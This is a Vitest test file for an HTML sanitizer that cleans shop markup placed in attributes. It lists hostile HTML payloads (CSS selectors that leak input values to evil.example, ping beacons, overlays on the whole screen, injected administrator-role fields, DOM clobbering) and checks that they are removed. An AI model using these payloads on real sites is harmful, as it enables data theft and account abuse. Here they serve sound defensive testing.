// @vitest-environment jsdom
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { attributeMarkup, attributeNodes, fillFromAttribute, whenCleaned } from '../../../shared/html/attribute.js';
import { purifiedHtml } from '../../../shared/html/purify.js';
import { PAYLOADS } from './payloads.js';
import { dangersIn } from './corpus.js';

/** What an author's attribute may hold, found independently of the code under test. */
const ALLOWED = new Set(
  'a abbr b bdi bdo br cite code del dfn em i img ins kbd li mark ol p q s samp small span strong sub sup time u ul var wbr'.split(' '),
);
const ATTRIBUTES = new Set('alt aria-hidden aria-label class datetime dir height href lang src title width'.split(' '));

function strangersIn(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((el) => [
    ...(ALLOWED.has(el.localName) ? [] : [`<${el.localName}>`]),
    ...el.getAttributeNames().filter((name) => !ATTRIBUTES.has(name)),
  ]);
}

/** What no public vector of a sanitizer has: it runs nothing, and still takes what a visitor has. */
const TRICKS: readonly (readonly [string, string])[] = [
  ['a sheet that reads a nonce', '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'],
  ['a sheet in an SVG', '<svg><style>*{background:url(https://evil.example/)}</style></svg>'],
  ['a sheet in MathML', '<math><mtext><style>*{}</style></mtext></math>'],
  ['a linked sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['an imported sheet', '<link rel="import" href="/x"><link rel="prerender" href="/x">'],
  [
    'a form of the site over the whole screen',
    '<form method="post" action="/wp-admin/"><button style="position:fixed;inset:0;opacity:0">x</button></form>',
  ],
  ['a button for a form of the page', '<button form="order" formaction="/x" name="a" value="1">x</button>'],
  ['a field for a form of the page', '<input form="order" name="role" value="administrator">'],
  ['a frame', '<iframe src="/my-account/"></iframe>'],
  ['frames of other kinds', '<frameset><frame src="/x"></frameset><portal src="/x"></portal><fencedframe></fencedframe>'],
  ['a link that adds to the cart', '<a class="button add_to_cart_button ajax_add_to_cart" data-product_id="5" href="/x">x</a>'],
  ['a link that opens a window', '<a href="/x" target="_blank" rel="opener">x</a>'],
  ['a download', '<a href="/x" download ping="https://evil.example/">x</a>'],
  ['a box over the page', '<span style="position:fixed;inset:0">x</span><p class="xoo-wsc-modal" id="order_review">x</p>'],
  ['names of the page', '<img name="getElementById" src="/x.png"><a id="shopSettings">x</a>'],
  ['marks of ours', '<span data-shop-style="inset:0" data-shop-consent="necessary" data-src="/x">x</span>'],
  ['a part of another element', '<template shadowrootmode="open"><slot></slot></template><slot name="x"></slot>'],
  ['a tag of ours', '<shop-statistics data-request-url="https://evil.example/"></shop-statistics><x-y is="a-b">x</x-y>'],
  ['a picture with a map', '<img src="/x.png" usemap="#m"><map name="m"><area href="/x" shape="rect" coords="0,0,9,9"></map>'],
  ['a list of pictures', '<img src="/x.png" srcset="https://evil.example/x 2x" sizes="1px" loading="eager" crossorigin="use-credentials">'],
  ['films and sounds', '<video src="/x" autoplay></video><audio src="/x" autoplay></audio><track src="/x">'],
  [
    'fields to type into',
    '<textarea name="password">x</textarea><select><option>x</option></select><details open><summary>x</summary></details>',
  ],
  ['a table', '<table><tr><td background="https://evil.example/">x</td></tr></table>'],
  ['a dialog', '<dialog open>x</dialog><div popover>x</div>'],
  ['what edits', '<p contenteditable autofocus tabindex="1" accesskey="x" is="x">x</p>'],
];

describe('HTML in attributes', () => {
  beforeAll(() => new Promise<void>((resolve) => whenCleaned(['<b>'], resolve)));

  test.each([...PAYLOADS, ...TRICKS].map(([name, html]) => [name, html] as const))(
    'of %s nothing but text, links and pictures stays',
    (_, html) => {
      const nodes = attributeNodes(html);
      expect([dangersIn(nodes), strangersIn(nodes), nodes.ownerDocument === document]).toEqual([[], [], true]);
      const box = document.createElement('div');
      box.innerHTML = attributeMarkup(html);
      // Written out and read again it is the same: nothing hides in between.
      expect([dangersIn(box), strangersIn(box), box.innerHTML]).toEqual([[], [], attributeMarkup(html)]);
    },
  );

  test.each([
    ['Only <b>today</b>, <i>and</i><br>tomorrow', undefined],
    ['<p>One</p><ul><li>two</li></ul>', undefined],
    ['© <a href="https://tiles.example/">Tiles</a> <img src="/x.png" alt="x" width="9" height="9">', undefined],
    ['<a href="mailto:a@b.c">mail</a> <a href="tel:1">call</a> <a href="?a=1&amp;b=2">x</a>', undefined],
    [
      '<span class="price"><del aria-hidden="true"><span class="woocommerce-Price-amount amount"><bdi><span class="woocommerce-Price-currencySymbol">£</span>18.00</bdi></span></del> <span class="screen-reader-text">Original price was: £18.00.</span></span>',
      undefined,
    ],
    ['<p class="stock out-of-stock">Out of stock</p>', undefined],
    [' <small class="woocommerce-price-suffix mine">incl. VAT</small>', ' <small class="woocommerce-price-suffix">incl. VAT</small>'],
    ['<div>kept <form>as <button>text</button></form></div>', 'kept as text'],
    ['<a href="javascript:x()">x</a><a href="//x.test/">y</a>', '<a>x</a><a href="//x.test/">y</a>'],
    [
      '<img src="data:image/png;base64,iVBO" alt=""><img src="data:text/html,x" alt="">',
      '<img src="data:image/png;base64,iVBO" alt=""><img alt="">',
    ],
  ])('%s is shown', (html, shown) => {
    expect(attributeMarkup(html)).toBe(shown ?? html);
  });

  test('one policy of the page is enough', () => {
    const made: string[] = [];
    vi.stubGlobal('trustedTypes', { createPolicy: (name: string, rules: object) => (made.push(name), rules) });
    expect(purifiedHtml('<b>x</b>').textContent).toBe('x');
    vi.unstubAllGlobals();
    expect(made.filter((name) => name !== 'shop')).toEqual([]);
  });

  test('an element that has left is filled no more', () => {
    const el = document.createElement('p');
    fillFromAttribute(el, '<b>x</b>')();
    expect(el.innerHTML).toBe('<b>x</b>');
  });
});
